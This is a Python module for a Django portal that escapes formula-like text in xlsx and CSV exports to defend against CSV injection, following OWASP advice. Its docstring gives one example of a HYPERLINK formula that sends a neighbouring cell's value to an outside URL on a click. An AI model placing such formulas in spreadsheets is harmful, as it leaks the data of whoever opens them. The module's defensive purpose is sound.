"""Text that a spreadsheet would run as a formula, kept as text in every file we write.

Text starting with "=", "+", "-", "@", a tab or a carriage return runs as a formula in a
spreadsheet that reads it from CSV, or when someone edits the cell ("CSV injection": a note
`=HYPERLINK("http://…?d="&B2)` sends a neighbouring cell away on a click). In xlsx such text
is stored as a string cell, exactly as typed, so an uploaded template gives it back unchanged;
CSV has no types, so it gets a leading apostrophe, as OWASP advises. Numbers are never touched:
"-3,5" is a number whichever way it is read.

This module imports nothing of the portal: the settings use its django-import-export formats.
"""

import re

from import_export.formats import base_formats
from openpyxl.cell.cell import Cell
from openpyxl.cell.rich_text import CellRichText
from tablib.formats import registry

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
CSV_BOM = "\ufeff"
# A signed number with any grouping ("-1.093.410", "+5", "-12%") computes only itself.
_SIGNED_NUMBER = re.compile(r"[+-]?[\d.,]*\d[\d.,]*%?")


def looks_like_formula(value) -> bool:
    """Return whether `value` is text that a spreadsheet could run as a formula."""
    return (
        isinstance(value, str)
        and value.startswith(FORMULA_STARTS)
        and not _SIGNED_NUMBER.fullmatch(value)
    )


def csv_text(value):
    """Return `value` for a CSV cell: formula-like text behind an apostrophe, the rest as is."""
    return f"'{value}" if looks_like_formula(value) else value


def keep_text(cell: Cell) -> Cell:
    """Store a text cell as a string, never a formula or an error code; the text unchanged.

    openpyxl reads any text starting with "=" as a formula and "#N/A" as an error. The quote
    prefix (not part of the value) keeps the cell text when someone edits it in Excel.
    """
    if isinstance(cell.value, str) and not isinstance(cell.value, CellRichText):
        cell.data_type = "s"
        if looks_like_formula(cell.value):
            cell.quotePrefix = True
    return cell


class _TextKeptXLSXFormat(registry.get_format("xlsx")):
    """tablib's xlsx writer, with every text cell kept as text.

    A dataset may carry `column_formats` ({column index: number format}) for its numbers,
    and `print_layout` (a function of the worksheet) to lay its sheet out for printing.
    """

    @classmethod
    def dset_sheet(cls, dataset, ws, freeze_panes=True, escape=False):
        super().dset_sheet(dataset, ws, freeze_panes=freeze_panes)
        formats = getattr(dataset, "column_formats", {})
        for row in ws.iter_rows():
            for cell in row:
                keep_text(cell)
                if cell.row > 1 and cell.column - 1 in formats and cell.data_type == "n":
                    cell.number_format = formats[cell.column - 1]
        layout = getattr(dataset, "print_layout", None)
        if layout is not None:
            layout(ws)


def dataset_xlsx(dataset) -> bytes:
    """Return a tablib dataset as xlsx, its text kept as text."""
    return _TextKeptXLSXFormat.export_set(dataset)


def dataset_csv(dataset, **options) -> str:
    """Return a tablib dataset as CSV, formula-like text behind an apostrophe."""
    escaped = dataset.__class__(headers=dataset.headers, title=dataset.title)
    for row in dataset:
        escaped.append([csv_text(value) for value in row])
    return escaped.export("csv", **options)


class FormulaSafeXLSX(base_formats.XLSX):
    """django-import-export's xlsx export with text kept as text (its own setting drops "=")."""

    def export_data(self, dataset, **kwargs):
        return dataset_xlsx(dataset)


class FormulaSafeCSV(base_formats.CSV):
    """django-import-export's CSV export with formula-like text behind an apostrophe, and a
    byte order mark: Excel on Windows then reads the Vietnamese as UTF-8."""

    def export_data(self, dataset, **kwargs):
        return CSV_BOM + dataset_csv(dataset, **kwargs)


def register_binary_format() -> None:
    """Let the admin export native numbers and dates to FormulaSafeXLSX.

    django-import-export decides that by the format's exact type in BINARY_FORMATS; a
    subclass of its XLSX is not found there unless it is added.
    """
    if FormulaSafeXLSX not in base_formats.BINARY_FORMATS:
        base_formats.BINARY_FORMATS.append(FormulaSafeXLSX)
